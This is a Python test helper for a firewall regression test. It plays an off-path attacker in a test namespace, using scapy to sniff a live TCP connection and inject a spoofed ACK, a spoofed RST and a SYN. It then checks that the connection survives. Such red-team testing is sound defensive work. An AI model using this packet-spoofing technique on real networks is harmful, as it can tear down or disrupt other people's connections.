#!/usr/bin/python3
"""An off-path attacker against a live connection, for
test_tcp_offpath_kill.sh (client ns; red team 2, finding 1).

  offpath.py DST DPORT FWMAC STATE_CMD

A real connection (the kernel's) to the echo server at DST DPORT; its
numbers come from a capture of its own segments. The attacker knows the
addresses and ports, and is granted the one lucky segment a blind sweep of
the sequence space finds:
  1. as the client, an ACK inside the server's window whose ACK number X
     acknowledges nothing the server sent (RFC 5961 section 5: the server
     ignores it);
  2. as the server (into the firewall's veth0 from the client's side,
     FWMAC its address), a RST at sequence number X;
  3. as the client, a SYN with the attacker's own ISN.
No endpoint accepts any of them. 3 s later (past tcp-rst-timeout) STATE_CMD
runs (through the shell, LPORT in its environment) and an echo goes both
ways. Prints: echo-before ok|failed, state ..., echo-after ok|failed
"""
import os
import socket
import subprocess
import sys
import time

from scapy.all import IP, IPv6, TCP, AsyncSniffer, Ether, conf, send, sendp

from drops import echo_once, ip_layer

conf.verb = 0


def client_numbers(seen, lport):
    """The client's next sequence number and last acknowledgement, from its
    last real segment."""
    mine = [p for p in list(seen) if p[TCP].sport == lport and p[TCP].flags & 0x10]
    last = mine[-1]
    return (last[TCP].seq + len(bytes(last[TCP].payload))) & 0xffffffff, last[TCP].ack


def state(cmd, lport):
    out = subprocess.run(cmd, shell=True, capture_output=True, text=True,
                         env=dict(os.environ, LPORT=str(lport)))
    return " ".join(out.stdout.split()) or "none"


def echo(c, tag):
    try:
        return "ok" if echo_once(c, tag) else "failed"
    except OSError:
        return "failed"


def main():
    if len(sys.argv) != 5:
        print(__doc__, file=sys.stderr)
        return 2
    dst, dport, fwmac, cmd = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    c = socket.create_connection((dst, dport), timeout=2)
    me, lport = c.getsockname()[:2]
    seen = []
    sn = AsyncSniffer(filter="tcp and port %d and port %d" % (lport, dport), store=False,
                      prn=seen.append)
    sn.start()
    time.sleep(0.3)
    print("echo-before", echo(c, b"first"))
    time.sleep(0.2)
    nxt, acked = client_numbers(seen, lport)
    x = (acked + 0x40000000) & 0xffffffff
    send(ip_layer(None, dst) / TCP(sport=lport, dport=dport, flags="A",
                                   seq=(nxt + 5000) & 0xffffffff, ack=x))
    back = IPv6(src=dst, dst=me) if ":" in dst else IP(src=dst, dst=me)
    sendp(Ether(dst=fwmac) / back / TCP(sport=dport, dport=lport, flags="R", seq=x),
          iface="veth0")
    time.sleep(0.2)
    send(ip_layer(None, dst) / TCP(sport=lport, dport=dport, flags="S", seq=0x31337))
    time.sleep(3)
    print("state", state(cmd, lport))
    print("echo-after", echo(c, b"second"))
    sn.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
